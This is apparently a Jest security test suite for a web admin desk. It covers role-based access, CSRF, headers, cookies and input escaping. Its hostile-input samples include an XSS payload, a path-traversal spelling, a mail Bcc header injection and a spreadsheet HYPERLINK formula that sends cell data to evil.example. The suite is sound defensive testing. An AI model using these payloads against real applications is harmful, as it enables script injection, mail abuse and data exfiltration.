import { createDraftStore } from '@site/api/posts/draft-store.ts';
import { createHandlingStore } from '@site/api/submissions/handling.ts';
import { seenVersion } from '@site/api/testing/stored-submissions.ts';
import { createMailer } from '@site/api/outgoing/send-mail.ts';
import { createSubmissionStore } from '@site/api/submissions/store-submission.ts';
import { startMailServer } from '@site/api/testing/mail-server.ts';
import { openTestSite, type TestSite } from '@site/delivery/testing/open-test-site.ts';
import { configuredSite } from '@site/kit/testing/configured-site.ts';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { openTestPages } from '../testing/test-pages.ts';
import {
  type DeskAnswer,
  openTestDesk,
  type TestBrowser,
  type TestDesk,
} from '../testing/open-test-desk.ts';
import { testPreviews } from '../testing/open-test-service.ts';
import { mailLinkBy } from './accounts/mail-link.ts';
import { createSignInLink } from './accounts/tokens.ts';
import { whoIs } from './accounts/users.ts';
import { deskSections } from './open-desk.ts';
import { TOKEN_FIELD } from './page/desk-form.tsx';
import { type DeskAction, may, roles } from './role.ts';
import type { DeskSection } from './section.ts';

const origin = 'https://desk.pebble.example';

type Route = { method: 'GET' | 'POST'; url: string; access: DeskAction | 'signed-in' | 'open' };

// All tests share one desk, because opening it is slow.
let site: TestSite;
let desk: TestDesk;
let pages: Awaited<ReturnType<typeof openTestPages>>;

/** All registered routes of a desk with all sections. */
let routes: Route[];

beforeAll(async () => {
  routes = [];
  site = await openTestSite();
  const { stores } = site;
  await site.goLive({ name: 'shell' }, { name: 'mfe-home', pages: { '/': 'Home' } });
  pages = await openTestPages();
  desk = await openTestDesk(
    ({ database }) => [
      collector,
      ...deskSections({
        stores,
        database,
        previewAddress: testPreviews,
        readSite: async () => configuredSite(),
        hasWebhook: true,
        origin,
        hosts: [],
        editorScript: async () => null,
        pages,
      }).filter(({ path }) => path !== '/people'),
    ],
    { registry: stores.registry },
  );
});

afterAll(async () => {
  await desk.close();
  await site.close();
  await pages.close();
});

/** Registered first, so that it sees all later routes. */
const collector: DeskSection = {
  path: '/collector',
  title: 'Collector',
  icon: 'list',
  action: 'manage-people',
  routes: (app) =>
    void app.addHook('onRoute', ({ method, url, config }) => {
      for (const each of ['GET', 'POST'] as const) {
        if (method === each) routes.push({ method: each, url, access: config?.access ?? 'open' });
      }
    }),
};

/** The route's URL with its parameters filled in. */
const filled = ({ url }: Route) =>
  url.replaceAll(/:part/g, 'mfe-home').replaceAll(/:\w+/g, '0123456789abcdef');

const send = (browser: TestBrowser, route: Route, headers = {}) =>
  route.method === 'GET'
    ? browser.get(filled(route), headers)
    : browser.post(filled(route), {}, headers);

const nameOf = ({ method, url }: Route) => `${method} ${url}`;
const isForRoles = ({ access }: Route) => access !== 'open' && access !== 'signed-in';

test('every route redirects signed-out visitors to the sign-in page', async () => {
  expect(routes.length).toBeGreaterThan(50);
  for (const route of routes.filter(({ access }) => access !== 'open')) {
    const { status, location } = await send(desk.newBrowser(), route);
    expect([nameOf(route), status, location]).toEqual([nameOf(route), 303, '/sign-in']);
  }
});

test.each(roles)('%s can use the routes of that role and no others', async (role) => {
  const browser = await desk.signIn(role);
  const { body: account } = await browser.get('/account');
  expect(account.includes('href="/people"')).toBe(may({ roles: [role] }, 'manage-people'));
  for (const route of routes.filter(isForRoles)) {
    const { access } = route;
    if (access === 'open' || access === 'signed-in') continue;
    const isAllowed = may({ roles: [role] }, access);
    const { status, body } = await send(browser, route);
    expect([nameOf(route), status === 403]).toEqual([nameOf(route), !isAllowed]);
    expect([nameOf(route), status >= 500]).toEqual([nameOf(route), false]);
    if (isAllowed || route.method === 'GET') continue;
    expect(body).not.toContain(TOKEN_FIELD);
    const [last] = await desk.registry.journal(1);
    expect(last).toMatchObject({
      who: whoIs(browser.user),
      what: `${nameOf(route)} at the desk`,
      outcome: 'refused',
    });
  }
});

test('a read permission allows no change except creating a preview', () => {
  const changing = routes.filter(
    ({ method, access }) => method === 'POST' && access.startsWith('read-'),
  );
  expect(changing.map(({ url }) => url)).toEqual(['/posts/:id/preview', '/approvals/:id/preview']);
});

test('other spellings of a URL do not bypass the checks', async () => {
  const clerk = await desk.signIn('front-desk');
  const spellings = ['//people', '/People', '/people/', '/inbox/../people', '/inbox/%2e%2e/people'];
  const encoded = ['/%70eople', '/people%2fnew', '/people;/new', '/people?/inbox', '/people%00'];
  for (const url of [...spellings, ...encoded]) {
    const { status } = await clerk.get(url);
    expect([url, [400, 403, 404].includes(status)]).toEqual([url, true]);
  }
});

test('every form requires the CSRF token of its session and the desk’s origin', async () => {
  const everybody = await desk.signIn(...roles);
  const other = await desk.signIn(...roles);
  const { body } = await other.get('/account');
  const [, foreign = ''] = new RegExp(`name="${TOKEN_FIELD}" value="([^"]+)"`).exec(body) ?? [];
  expect(foreign).not.toBe('');
  const elsewhere = { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' };
  const before = await desk.registry.journal(100);
  for (const route of routes.filter(
    ({ method, access }) => method === 'POST' && access !== 'open',
  )) {
    const url = filled(route);
    const answers = [
      ...(await Promise.all(
        ['', 'wrong', foreign, ['a', 'b']].map((token) =>
          everybody.post(url, { [TOKEN_FIELD]: token }),
        ),
      )),
      await everybody.post(url, {}, elsewhere),
      await everybody.post(url, {}, { ...elsewhere, origin: 'null' }),
      await everybody.post(url, {}, { origin: 'https://www.pebble.example' }),
      await everybody.post(url, {}, { 'content-type': 'text/plain' }),
    ];
    const statuses = answers.map(({ status }) => status);
    expect([nameOf(route), statuses]).toEqual([
      nameOf(route),
      [403, 403, 403, 403, 403, 403, 403, 415],
    ]);
  }
  for (const route of routes.filter(
    ({ method, access }) => method === 'POST' && access === 'open',
  )) {
    const { status } = await desk.newBrowser().post(filled(route), {}, elsewhere);
    expect([nameOf(route), status]).toEqual([nameOf(route), 403]);
  }
  expect(await desk.registry.journal(100)).toEqual(before);
});

test('no response can be framed, sniffed or cached', async () => {
  const everybody = await desk.signIn(...roles);
  const unreadable = await desk.server.inject({ url: '/%zz', headers: { host: 'x' } });
  const nobody = await everybody.get('/people/nobody');
  const nothing = await everybody.get('/nothing');
  const long = await everybody.get(`/people/${'x'.repeat(500)}`);
  const json = await everybody.post('/people/new', {}, { 'content-type': 'application/json' });
  const large = await everybody.post('/people/new', { name: 'x'.repeat(300_000) });
  const errors = [nobody, nothing, long, json, large];
  expect(errors.map(({ status }) => status)).toEqual([404, 404, 400, 415, 413]);
  const answers: [string, Pick<DeskAnswer, 'headers'>][] = [
    ['unreadable address', unreadable],
    ...errors.map((answer): [string, DeskAnswer] => [`error ${answer.status}`, answer]),
  ];
  for (const route of routes.filter(({ method }) => method === 'GET')) {
    answers.push([nameOf(route), await send(everybody, route)]);
    answers.push([nameOf(route), await send(desk.newBrowser(), route)]);
  }
  for (const [name, answer] of answers) {
    const { 'content-security-policy': policy, 'cache-control': kept } = answer.headers;
    expect([name, policy]).toEqual([name, expect.stringContaining("frame-ancestors 'none'")]);
    expect([name, answer.headers['x-content-type-options']]).toEqual([name, 'nosniff']);
    expect([name, kept]).toEqual([
      name,
      /\.(woff2|ico|js)$/.test(name) ? 'private, max-age=604800' : 'no-store',
    ]);
  }
});

test('every cookie is host-only, Secure and HttpOnly', async () => {
  const browser = desk.newBrowser();
  const asked = await browser.get('/people/new');
  const { url } = await createSignInLink(
    desk.registry,
    await desk.addUser('Asha Rao', 'operator'),
    {
      origin,
    },
  );
  const token = new URL(url).searchParams.get('token') ?? '';
  const signedIn = await browser.post('/sign-in/link', { token });
  await browser.get('/account');
  const left = await browser.post('/sign-out');
  const set = [asked, signedIn, left].flatMap(({ headers }) => headers['set-cookie']).flat();
  expect(set.map((cookie) => String(cookie).split('=')[0])).toEqual([
    '__Host-desk-next',
    '__Host-desk',
    '__Host-desk-next',
    '__Host-desk',
    '__Host-desk-flash',
    '__Host-desk-accepted',
  ]);
  for (const cookie of set) {
    expect(cookie).toMatch(/; Path=\/; .*HttpOnly; Secure; SameSite=Lax/);
    expect(cookie).not.toMatch(/domain/i);
  }
});

test('a form opened earlier has no effect once the user has lost the role or session', async () => {
  const operator = await desk.signIn('operator');
  const writer = await desk.signIn('writer', 'operator');
  const { id } = writer.user;
  expect((await writer.get('/people/new')).status).toBe(200);
  await operator.get('/people');
  await operator.post(`/people/${id}/roles`, { roles: 'writer' });
  const fields = { name: 'Eve', email: 'eve@evil.example', roles: 'operator' };
  expect((await writer.post('/people/new', fields)).status).toBe(403);
  await operator.post(`/people/${id}/sign-out`);
  expect((await writer.post('/sign-out/everywhere')).location).toBe('/sign-in');
  expect((await operator.get('/people')).body).not.toContain('eve@evil.example');
});

test('NUL characters are removed or rejected, because PostgreSQL cannot store them', async () => {
  const everybody = await desk.signIn(...roles);
  for (const url of ['/people/%00', '/releases/mfe%00', '/approvals/%00', '/inbox/%00/']) {
    expect([url, (await everybody.get(url)).status]).toEqual([url, 404]);
    expect([url, (await everybody.post(`${url}/remove`)).status]).toEqual([url, 404]);
  }
  await everybody.get('/people/new');
  const fields = { name: 'A\0sha', email: 'a\0@pebble.example', roles: 'writer\0' };
  expect((await everybody.post('/people/new', fields)).status).toBe(303);
  const list = await everybody.get('/people?q=\0');
  expect(list.body).toContain('<bdi>Asha</bdi>');
  expect(list.body).toContain('a@pebble.example');
  const found = await everybody.get('/inbox?q=a%00b');
  expect(found.body).toMatch(/name="q"[^>]*value="ab"|value="ab"[^>]*name="q"/);
});

/** Input that could disguise itself or break out of its context. */
const hostile = {
  markup: `"><img src=x onerror=alert(1)></textarea></title><script>alert(1)</script>'<b>`,
  'right to left': '\u202Egpj.exe\u2066<b>',
  'escape sequence': '\u001b[2J\u001b]0;x\u0007<b>',
  'a name of the prototype': '__proto__<b>',
  'very long': `${'W'.repeat(5000)}<b>`,
  'many marks': `Z${'\u0301'.repeat(30)}<b>`,
  'a header': 'x\r\nBcc: eve@evil.example<b>',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1;"<b>")',
};

/** Markup that only input could have brought. */
const BROKEN_OUT = /<b>|<img src=x|<script(?! defer)|<\/textarea><\/title>/;

/** Text with direction overrides outside elements that isolate them. */
function looseDirection(body: string): string[] {
  const isolated = body
    .replaceAll(/<(bdi|title|option|textarea)\b[^>]*>[^<]*<\/\1>/g, '')
    .replaceAll(
      /<(p|div)\b[^>]* dir="auto"[^>]*>(?:[^<]|<\/?(?:del|ins|span)\b[^>]*>)*<\/\1>/g,
      '',
    );
  return isolated.match(/>[^<]*[\u202A-\u202E\u2066-\u2069][^<]*/g) ?? [];
}

test.each(Object.entries(hostile))(
  'visitor input is harmless on every page, in the export and in the log: %s',
  async (_kind, words) => {
    const { database } = desk;
    const phone = words.slice(0, 40);
    const submissions = createSubmissionStore(database);
    const said = { name: words, phone, message: words };
    await submissions.store('message', { ...said, email: words });
    await submissions.store('call-back', { ...said, wanted: words });
    await submissions.store('deletion', { name: words, email: words, reason: words });
    await submissions.store('waitlist', { email: words });
    const clerk = await desk.signIn('front-desk');
    const list = await clerk.get('/inbox?state=all');
    const links = list.body.matchAll(/href="(\/inbox\/[\da-f-]{36})[?"]/g);
    const addresses = [...links].slice(0, 4).map(([, url = '']) => url);
    expect(addresses).toHaveLength(4);
    const bodies = [list.body];
    for (const url of addresses) {
      const page = await clerk.get(url);
      expect(page.status).toBe(200);
      const person = await clerk.post('/inbox/person', { who: words.replaceAll('\r\n', ' ') });
      expect(person.status).toBeLessThan(500);
      const handling = createHandlingStore(database);
      const id = /[\da-f-]{36}/.exec(url)?.[0] ?? '';
      const seen = await seenVersion(database, id);
      await handling.addNote(id, { author: words, words }, seen);
      bodies.push(page.body, person.body, (await clerk.get(url)).body);
    }
    for (const body of bodies) {
      expect(body).not.toMatch(BROKEN_OUT);
      expect(looseDirection(body)).toEqual([]);
      for (const [mailto] of body.matchAll(/mailto:[^"]*/g)) expect(mailto).not.toMatch(/\s|bcc:/i);
    }
    const csv = await clerk.get('/inbox/export.csv?state=all');
    expect(csv.status).toBe(200);
    expect(csv.body).not.toMatch(/(^|[,;"\n])[=@+-][A-Z]/);
    const log = JSON.stringify([await desk.registry.journal(100), desk.log]);
    expect(log).not.toContain(words.slice(0, 6));
  },
);

/** Writes a post with these words in every field, and returns its pages. */
async function postOf(browser: TestBrowser, words: string): Promise<readonly string[]> {
  await browser.get('/posts');
  const { location = '' } = await browser.post('/posts');
  const { body } = await browser.get(location);
  const [, version = ''] = /name="version" value="(\d+)"/.exec(body) ?? [];
  const names = ['title', 'slug', 'author', 'summary', 'alt', 'category', 'topic', 'thumbnail'];
  const medical = ['medicalWriter', 'nextReview', 'sources', 'body'];
  const fields = [...names, ...medical].map((name) => [name, words] as const);
  await browser.post(location, { version, ...Object.fromEntries(fields) });
  const [kept] = await createDraftStore(desk.database).versions(location.slice('/posts/'.length));
  expect(kept?.source).toContain('title:');
  const shown = await (await desk.signIn('clinician')).get(location);
  expect(shown.body).not.toMatch(BROKEN_OUT);
  const views = ['', '/publish', '/delete', '/history', `/history/${kept?.id}`];
  return ['/posts', ...views.map((view) => `${location}${view}`)];
}

test.each(Object.entries(hostile))(
  'names and texts of colleagues are harmless: %s',
  async (kind, words) => {
    const everybody = await desk.signIn(...roles);
    await everybody.get('/people/new');
    const fields = {
      name: words,
      email: `${kind.replaceAll(' ', '.')}@pebble.example`,
      roles: 'front-desk',
    };
    const { status, location = '' } = await everybody.post('/people/new', fields);
    const isTaken = kind !== 'very long' && kind !== 'escape sequence';
    expect(status).toBe(isTaken ? 303 : 422);
    const said = { name: 'A', message: 'B', email: 'a@b.in' };
    await createSubmissionStore(desk.database).store('message', said);
    const { id } = await desk.database.db
      .selectFrom('submissions')
      .select('id')
      .executeTakeFirstOrThrow();
    if (isTaken)
      await everybody.post(`/inbox/${id}/assign`, { to: location.split('/').at(-1) ?? '' });
    const { id: seen } = await site.stores.registry.live();
    await everybody.post('/releases/mfe-home/roll-back', { seen: seen ?? '', why: words });
    await desk.registry.note({ what: words, details: [words], who: words, why: words });
    const pages = [
      '/people',
      location === '' ? '/people/new' : location,
      `/inbox/${id}`,
      '/inbox',
      '/releases/history',
      ...(await postOf(everybody, words)),
    ];
    for (const url of [...pages, '/releases/mfe-home', '/releases', '/approvals', '/inbox/log']) {
      const page = await everybody.get(url);
      expect([url, page.status]).toEqual([url, 200]);
      expect(page.body).not.toMatch(BROKEN_OUT);
      expect([url, looseDirection(page.body)]).toEqual([url, []]);
    }
    const csv = await everybody.get('/inbox/export.csv?state=all');
    expect(csv.body).not.toMatch(/(^|[,;"\n])[=@+-][A-Z]/);
  },
);

test('an email with a sign-in link has one recipient, even if the name contains a mail header', async () => {
  const mail = await startMailServer();
  const send = createMailer({ url: mail.url, from: 'desk@pebble.example' });
  const mailing = await openTestDesk(undefined, { mailLink: mailLinkBy(send, 'Pebble') });
  const operator = await mailing.signIn('operator');
  await operator.get('/people/new');
  const fields = { name: hostile['a header'], email: 'asha@pebble.example', roles: 'writer' };
  expect((await operator.post('/people/new', fields)).status).toBe(303);
  await mailing.newBrowser().post('/sign-in', { email: 'asha@pebble.example' });
  await mail.got(1);
  const [letter] = mail.letters;
  expect(letter?.to).toEqual(['asha@pebble.example']);
  const [head = ''] = letter?.source.split('\r\n\r\n', 1) ?? [];
  expect(head).not.toMatch(/bcc|evil/i);
  await mailing.close();
  await mail.close();
});
